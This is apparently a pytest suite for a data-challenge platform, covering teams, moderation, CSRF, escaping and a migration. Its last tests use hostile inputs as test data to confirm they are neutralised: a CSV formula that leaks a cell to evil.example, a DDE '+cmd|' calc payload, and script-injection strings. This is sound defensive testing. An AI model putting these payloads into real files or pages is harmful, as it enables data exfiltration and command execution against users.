"""Running a real challenge: team membership (leave, remove, captaincy), moderation (hide, disqualify,
re-run, admins), what an entry says about itself and which ones the boards show, announcements."""
from __future__ import annotations

import datetime as dt
import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text

from deepsift.challenges.models import Submission
from platformkit import csv_text, good_scores, host_challenge, join, register, run_worker, submit


def csrf(client, path: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(path, headers={"accept": "text/html"}).text).group(1)


def team(client, slug, p):
    return client.get(f"/api/challenges/{slug}/team", headers=p.auth)


def board(client, slug, **params):
    return client.get(f"/api/challenges/{slug}/phases/dev/leaderboard", params=params).json()["rows"]


def make_admin(app, name: str) -> None:
    from deepsift.server.accounts import set_role

    with app.state.db.session(write=True) as s:
        set_role(s, name, "admin")


# -- teams -----------------------------------------------------------------------------------------
def test_members_leave_the_captain_removes_and_hands_over(app, client, tmp_path):
    h = host_challenge(app, client, tmp_path)
    alice, bob, carol, dave = (register(client, n) for n in ("alice", "bob", "carol", "dave"))
    join(client, h.slug, alice, "Team A")
    code = team(client, h.slug, alice).json()["invite_code"]
    for p in (bob, carol):
        assert client.post(f"/api/challenges/{h.slug}/teams/join", json={"invite_code": code}, headers=p.auth).status_code == 200
    assert team(client, h.slug, bob).json()["captain"] == "alice"
    url = f"/api/challenges/{h.slug}/team"
    r = client.post(f"{url}/remove", json={"username": "carol"}, headers=bob.auth)
    assert r.status_code == 403 and "captain" in r.json()["detail"]
    assert client.post(f"{url}/captain", json={"username": "bob"}, headers=carol.auth).status_code == 403
    assert client.post(f"{url}/remove", json={"username": "dave"}, headers=alice.auth).status_code == 404
    r = client.post(f"{url}/remove", json={"username": "carol"}, headers=alice.auth)
    assert r.status_code == 200 and r.json()["members"] == ["alice", "bob"]
    assert team(client, h.slug, carol).status_code == 404
    r = client.post(f"{url}/leave", headers=alice.auth)
    assert r.status_code == 409 and "captaincy" in r.json()["detail"]
    r = client.post(f"{url}/captain", json={"username": "bob"}, headers=alice.auth)
    assert r.status_code == 200 and r.json()["captain"] == "bob"
    r = client.post(f"{url}/leave", headers=alice.auth)
    assert r.status_code == 200 and r.json()["members"] == ["bob"] and r.json()["captain"] == "bob"
    assert client.post(f"{url}/leave", headers=dave.auth).status_code == 404  # in no team
    assert client.post(f"{url}/leave", headers=bob.auth).json() is None  # the last member: the team goes
    assert team(client, h.slug, bob).status_code == 404
    # the name is free again, and someone who left may join another team
    join(client, h.slug, carol, "Team A")
    # once a team has submitted, its members stay (a fresh team would be a fresh quota)
    code = team(client, h.slug, carol).json()["invite_code"]
    assert client.post(f"/api/challenges/{h.slug}/teams/join", json={"invite_code": code}, headers=dave.auth).status_code == 200
    assert submit(client, h, carol, csv_text(good_scores(h))).status_code == 201
    r = client.post(f"{url}/leave", headers=dave.auth)
    assert r.status_code == 409 and "submissions" in r.json()["detail"]
    assert client.post(f"{url}/remove", json={"username": "dave"}, headers=carol.auth).status_code == 409
    assert team(client, h.slug, dave).json()["members"] == ["carol", "dave"]


def test_team_pages_show_the_captain_and_their_forms_need_csrf(app, client, tmp_path):
    h = host_challenge(app, client, tmp_path)
    alice, bob = register(client, "alice"), register(client, "bob")
    join(client, h.slug, alice, "Team A")
    code = team(client, h.slug, alice).json()["invite_code"]
    client.post(f"/api/challenges/{h.slug}/teams/join", json={"invite_code": code}, headers=bob.auth)
    browser = TestClient(app, base_url="http://127.0.0.1")
    token = csrf(browser, "/login")
    assert browser.post("/login", data={"username": "alice", "password": "password-123", "csrf_token": token},
                        follow_redirects=False).status_code == 303
    page = browser.get(f"/challenges/{h.slug}", headers={"accept": "text/html"}).text
    assert "Captain: alice" in page and 'id="team-captain"' in page and 'id="team-leave"' in page
    r = browser.post(f"/challenges/{h.slug}/team/captain", data={"username": "bob"}, follow_redirects=False)
    assert r.status_code == 403  # no CSRF token
    token = csrf(browser, f"/challenges/{h.slug}")
    r = browser.post(f"/challenges/{h.slug}/team/captain", data={"username": "bob", "csrf_token": token},
                     follow_redirects=False)
    assert r.status_code == 303 and team(client, h.slug, alice).json()["captain"] == "bob"
    r = browser.post(f"/challenges/{h.slug}/team/remove", data={"username": "bob", "csrf_token": token},
                     headers={"accept": "text/html"})
    assert r.status_code == 403 and "only the team&#39;s captain" in r.text  # shown on the page, escaped
    r = browser.post(f"/challenges/{h.slug}/team/leave", data={"csrf_token": token}, follow_redirects=False)
    assert r.status_code == 303 and team(client, h.slug, bob).json()["members"] == ["bob"]


# -- moderation ------------------------------------------------------------------------------------
@pytest.fixture
def scored(app, client, tmp_path):
    h = host_challenge(app, client, tmp_path)
    a = join(client, h.slug, register(client, "alice"), "Team A")
    b = join(client, h.slug, register(client, "bob"), "Team B")
    sa = submit(client, h, a, csv_text(good_scores(h))).json()["id"]
    sb = submit(client, h, b, csv_text(good_scores(h, 0.3))).json()["id"]
    run_worker(app)
    assert [r["team"] for r in board(client, h.slug)] == ["Team A", "Team B"]
    return h, a, b, sa, sb


def test_the_host_hides_a_submission_from_every_board(app, client, scored):
    h, a, b, sa, sb = scored
    assert client.post(f"/api/submissions/{sa}/hide", json={"reason": "x"}, headers=b.auth).status_code == 404
    assert client.post(f"/api/submissions/{sa}/hide", json={"reason": "x"}, headers=a.auth).status_code == 403
    assert client.post(f"/api/submissions/{sa}/hide", json={"reason": "x"}).status_code == 401
    r = client.post(f"/api/submissions/{sa}/hide", json={"reason": "labels copied from the web"}, headers=h.host.auth)
    assert r.status_code == 200 and r.json()["hidden"] is True
    assert [r["team"] for r in board(client, h.slug)] == ["Team B"]
    mine = client.get(f"/api/submissions/{sa}", headers=a.auth).json()
    assert mine["hidden"] is True and mine["hidden_reason"] == "labels copied from the web"
    assert any(e["state"] == "hidden" for e in client.get(f"/api/submissions/{sa}", headers=a.auth).json()["events"])
    r = client.post(f"/api/submissions/{sa}/hide", json={"hidden": False}, headers=h.host.auth)
    assert r.status_code == 200 and [r["team"] for r in board(client, h.slug)] == ["Team A", "Team B"]


def test_a_disqualified_team_is_shown_unranked_with_the_reason_and_submits_no_more(app, client, scored):
    h, a, b, sa, sb = scored
    url = f"/api/challenges/{h.slug}/teams/Team A/disqualify"
    assert client.post(url, json={"reason": "two accounts"}, headers=b.auth).status_code == 403
    assert client.post(url, json={"reason": "two accounts"}).status_code == 401
    assert client.post(url, json={"reason": ""}, headers=h.host.auth).status_code == 422  # a reason is required
    assert client.post(f"/api/challenges/{h.slug}/teams/Nobody/disqualify", json={"reason": "xyz"},
                       headers=h.host.auth).status_code == 404
    r = client.post(url, json={"reason": "one person, two <b>accounts</b>"}, headers=h.host.auth)
    assert r.status_code == 200 and r.json()["disqualified"] == "one person, two <b>accounts</b>"
    rows = board(client, h.slug)
    assert [(r["team"], r["rank"], r["disqualified"]) for r in rows] == [
        ("Team B", 1, None), ("Team A", None, "one person, two <b>accounts</b>")]
    csv = client.get(f"/api/challenges/{h.slug}/phases/dev/leaderboard", params={"format": "csv"}).text
    assert "one person, two <b>accounts</b>" in csv.splitlines()[2]
    page = client.get(f"/challenges/{h.slug}/phases/dev/leaderboard", headers={"accept": "text/html"}).text
    assert "disqualified" in page and "one person, two &lt;b&gt;accounts&lt;/b&gt;" in page
    r = submit(client, h, a, csv_text(good_scores(h)))
    assert r.status_code == 409 and "disqualified" in r.json()["detail"]
    assert team(client, h.slug, a).json()["disqualified"] == "one person, two <b>accounts</b>"
    r = client.post(url, json={"disqualified": False}, headers=h.host.auth)
    assert r.status_code == 200 and r.json()["disqualified"] is None
    assert [r["rank"] for r in board(client, h.slug)] == [1, 2]


def test_an_admin_moderates_every_challenge_and_another_host_none(app, client, tmp_path, scored):
    h, a, b, sa, sb = scored
    other = host_challenge(app, client, tmp_path / "other", slug="c2")  # another host, another challenge
    root = register(client, "root")
    make_admin(app, "root")
    assert client.post(f"/api/submissions/{sa}/hide", json={}, headers=other.host.auth).status_code == 404
    r = client.post(f"/api/challenges/{h.slug}/teams/Team A/disqualify", json={"reason": "xyz"},
                    headers=other.host.auth)
    assert r.status_code == 403
    assert client.post(f"/api/submissions/{sa}/hide", json={"reason": "check"}, headers=root.auth).status_code == 200
    assert client.post(f"/api/submissions/{sb}/requeue", headers=root.auth).status_code == 200  # re-run
    assert client.get(f"/api/submissions/{sb}", headers=root.auth).json()["state"] == "queued"
    run_worker(app)
    assert client.get(f"/api/submissions/{sb}", headers=root.auth).json()["state"] == "scored"
    assert client.get(f"/api/challenges/{h.slug}/phases/dev/testset/key", headers=root.auth).status_code == 200
    assert client.get(f"/challenges/{h.slug}/admin", headers={**root.auth, "accept": "text/html"}).status_code == 200


def test_moderation_forms_on_the_admin_page(app, client, scored):
    h, a, b, sa, sb = scored
    browser = TestClient(app, base_url="http://127.0.0.1")
    token = csrf(browser, "/login")
    browser.post("/login", data={"username": h.host.name, "password": "host-password", "csrf_token": token})
    admin = f"/challenges/{h.slug}/admin"
    page = browser.get(admin, headers={"accept": "text/html"}).text
    assert f'action="{admin}/hide/{sa}"' in page and f'action="{admin}/disqualify"' in page
    for path, data in ((f"{admin}/hide/{sa}", {"reason": "x"}), (f"{admin}/disqualify", {"team": "Team B", "reason": "xyz"}),
                       (f"{admin}/announcements", {"title": "t"})):
        assert browser.post(path, data=data, follow_redirects=False).status_code == 403, path  # no CSRF token
    token = csrf(browser, admin)
    assert browser.post(f"{admin}/hide/{sa}", data={"reason": "dup", "csrf_token": token},
                        follow_redirects=False).status_code == 303
    assert browser.post(f"{admin}/disqualify", data={"team": "Team B", "reason": "late data", "csrf_token": token},
                        follow_redirects=False).status_code == 303
    rows = board(client, h.slug)
    assert [(r["team"], r["disqualified"]) for r in rows] == [("Team B", "late data")]
    r = browser.post(f"{admin}/disqualify", data={"team": "Team A", "reason": "", "csrf_token": token},
                     headers={"accept": "text/html"})
    assert r.status_code == 422 and "reason" in r.text


# -- entries: description, link, public-board choice -------------------------------------------------
def test_entries_carry_a_method_and_the_team_chooses_which_one_the_boards_show(app, client, tmp_path):
    h = host_challenge(app, client, tmp_path)
    a = join(client, h.slug, register(client, "alice"), "Team A")
    b = join(client, h.slug, register(client, "bob"), "Team B")
    best, worse = csv_text(good_scores(h)), csv_text(good_scores(h, 0.45, seed=3))
    for bad in ("javascript:alert(1)", "ftp://x.org/a", "https://", "http://exa mple.org", "https://x.org/" + "x" * 490):
        r = submit(client, h, a, best, method_url=bad)
        assert r.status_code == 422 and re.search("link|method_url", str(r.json()["detail"])), (bad, r.text)
    with app.state.db.session() as s:
        assert s.scalar(select(func.count()).select_from(Submission)) == 0  # refused: nothing kept
    s1 = submit(client, h, a, best, method_name="<script>alert(1)</script>CoDE",
                method_description="ViT-Tiny, contrastive", method_url="https://arxiv.org/abs/2407.20337").json()
    assert s1["method_name"] == "<script>alert(1)</script>CoDE" and s1["public"] is True
    s2 = submit(client, h, a, worse, method_name="Worse one").json()
    run_worker(app)
    rows = board(client, h.slug)
    assert rows[0]["method_name"] == "<script>alert(1)</script>CoDE"
    assert rows[0]["method_url"] == "https://arxiv.org/abs/2407.20337"
    page = client.get(f"/challenges/{h.slug}/phases/dev/leaderboard", headers={"accept": "text/html"}).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;CoDE" in page and "<script>alert" not in page
    assert "https://arxiv.org/abs/2407.20337" in page and 'href="https://arxiv.org' not in page  # text, not a link
    # the team picks its representative: hide the best entry from the boards, the other one counts
    url = f"/api/submissions/{s1['id']}"
    assert client.patch(url, json={"public": False}, headers=b.auth).status_code == 404
    assert client.patch(url, json={"public": False}, headers=h.host.auth).status_code == 403
    assert client.patch(url, json={"method_url": "data:text/html,x"}, headers=a.auth).status_code == 422
    r = client.patch(url, json={"public": False}, headers=a.auth)
    assert r.status_code == 200 and r.json()["public"] is False
    rows = board(client, h.slug)
    assert [r["method_name"] for r in rows] == ["Worse one"]
    r = client.patch(f"/api/submissions/{s2['id']}", json={"public": False}, headers=a.auth)
    assert board(client, h.slug) == []  # nothing shown: the team is off the boards
    # the result page has the form for the team (CSRF-protected), not for the host
    browser = TestClient(app, base_url="http://127.0.0.1")
    browser.post("/login", data={"username": "alice", "password": "password-123", "csrf_token": csrf(browser, "/login")})
    page = browser.get(f"/submissions/{s1['id']}", headers={"accept": "text/html"}).text
    assert 'id="describe"' in page
    assert browser.post(f"/submissions/{s1['id']}/describe", data={"public": "1"}, follow_redirects=False).status_code == 403
    r = browser.post(f"/submissions/{s1['id']}/describe", data={"public": "1", "method_name": "CoDE v2",
                     "csrf_token": csrf(browser, f"/submissions/{s1['id']}")}, follow_redirects=False)
    assert r.status_code == 303 and [r["method_name"] for r in board(client, h.slug)] == ["CoDE v2"]


# -- announcements and the upcoming phase --------------------------------------------------------------
def test_announcements_on_the_challenge_page(app, client, tmp_path):
    h = host_challenge(app, client, tmp_path)
    a = register(client, "alice")
    url = f"/api/challenges/{h.slug}/announcements"
    assert client.post(url, json={"title": "x"}, headers=a.auth).status_code == 403
    assert client.post(url, json={"title": "x"}).status_code == 401
    r = client.post(url, json={"title": "Deadline moved <soon>", "body": "One more week.\n\nGood luck."},
                    headers=h.host.auth)
    assert r.status_code == 201 and r.json()["author"] == h.host.name
    aid = r.json()["id"]
    assert [x["title"] for x in client.get(url).json()] == ["Deadline moved <soon>"]
    page = client.get(f"/challenges/{h.slug}", headers={"accept": "text/html"}).text
    assert "Deadline moved &lt;soon&gt;" in page and "<p>Good luck.</p>" in page
    assert client.delete(f"{url}/{aid}", headers=a.auth).status_code == 403
    assert client.delete(f"{url}/{aid + 1000}", headers=h.host.auth).status_code == 404
    assert client.delete(f"{url}/{aid}", headers=h.host.auth).status_code == 204
    assert client.get(url).json() == []


def test_the_upcoming_phase_has_no_download_button_until_it_opens(app, client, tmp_path):
    now = dt.datetime.now(dt.timezone.utc)
    h = host_challenge(app, client, tmp_path, starts=now + dt.timedelta(days=1), ends=now + dt.timedelta(days=2))
    a = register(client, "alice")
    page = client.get(f"/challenges/{h.slug}", headers={**a.auth, "accept": "text/html"}).text
    assert "/download" not in page and "download opens" in page
    assert client.get(f"/api/challenges/{h.slug}/phases/dev/download", headers=a.auth).status_code == 409
    page = client.get(f"/challenges/{h.slug}", headers={**h.host.auth, "accept": "text/html"}).text
    assert f"/api/challenges/{h.slug}/phases/dev/download" in page  # the host checks the archive beforehand


# -- schema ----------------------------------------------------------------------------------------
def test_the_migration_makes_each_existing_teams_first_member_its_captain(database_url, tmp_path):
    from deepsift.server.db import Database
    from deepsift.server.migrate import current, heads, upgrade

    db = Database(database_url)
    try:
        upgrade(db, "challenges@challenges_0001")
        with db.session(write=True) as s:
            for i, name in enumerate(("first", "second"), 1):
                s.execute(text("INSERT INTO users (id, username, password_hash, role, disabled, created_at) "
                               f"VALUES ({i}, '{name}', 'x', 'participant', false, CURRENT_TIMESTAMP)"))
            s.execute(text("INSERT INTO challenge_challenges (id, slug, title, description, rules, host_id, published, "
                           "max_team_size, created_at) VALUES (1, 'c', 'C', '', '', 1, true, 5, CURRENT_TIMESTAMP)"))
            s.execute(text("INSERT INTO challenge_teams (id, challenge_id, name, invite_code, created_at) "
                           "VALUES (1, 1, 'T', 'code', CURRENT_TIMESTAMP)"))
            s.execute(text("INSERT INTO challenge_team_members (team_id, challenge_id, user_id, joined_at) VALUES "
                           "(1, 1, 2, '2026-01-01 00:00:00'), (1, 1, 1, '2026-01-02 00:00:00')"))
        upgrade(db)
        assert set(current(db)) == set(heads())
        with db.session() as s:
            assert s.execute(text("SELECT captain_id FROM challenge_teams")).scalar() == 2
            assert s.execute(text("SELECT username FROM users ORDER BY id")).scalars().all() == ["first", "second"]
            assert s.execute(text("SELECT count(*) FROM challenge_team_members")).scalar() == 2
    finally:
        db.dispose()


# -- CSV formula injection ------------------------------------------------------------------------------
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_csv_the_platform_writes_starts_a_cell_with_a_formula(app, client, live_server, tmp_path, capsys,
                                                                  monkeypatch):
    """Text a participant or host typed (method names, reasons, file names) that starts with = + - @ tab or CR
    is neutralised (a leading ') in the API's leaderboard CSV and in every CSV the command line writes."""
    import csv
    import io

    from deepsift.cli import main

    h = host_challenge(app, client, tmp_path)
    a = join(client, h.slug, register(client, "alice"), "Team A")
    b = join(client, h.slug, register(client, "bob"), "Team B")
    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"CoDE")'
    sa = submit(client, h, a, csv_text(good_scores(h)), method_name=evil).json()
    sb = submit(client, h, b, csv_text(good_scores(h, 0.3)), name="@SUM(1+1).csv", method_name="-2+3").json()
    assert sa["method_name"] == evil  # stored and shown as typed: only CSV cells are neutralised
    run_worker(app)
    r = client.post(f"/api/challenges/{h.slug}/teams/Team B/disqualify",
                    json={"disqualified": True, "reason": "+cmd|' /C calc'!A0"}, headers=h.host.auth)
    assert r.status_code == 200, r.text
    api_csv = client.get(f"/api/challenges/{h.slug}/phases/dev/leaderboard", params={"format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(api_csv)))
    assert {r["team"]: r["method"] for r in rows} == {"Team A": "'" + evil, "Team B": "'-2+3"}
    assert [r["disqualified"] for r in rows if r["team"] == "Team B"] == ["'+cmd|' /C calc'!A0"]

    monkeypatch.setenv("DEEPSIFT_CLIENT_CONFIG", str(tmp_path / "client.json"))
    monkeypatch.setenv("DEEPSIFT_TOKEN", b.auth["Authorization"].split()[1])
    srv = ["--server", live_server.url, "--challenge", h.slug, "--phase", "dev", "--format", "csv"]
    capsys.readouterr()
    assert main(["challenges", "leaderboard", *srv]) == 0
    assert capsys.readouterr().out == api_csv  # one writer: the command line prints the API's CSV
    assert main(["challenges", "status", *srv]) == 0
    status = capsys.readouterr().out
    assert [r["filename"] for r in csv.DictReader(io.StringIO(status))] == ["'@SUM(1+1).csv"]
    for text in (api_csv, status):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)], text
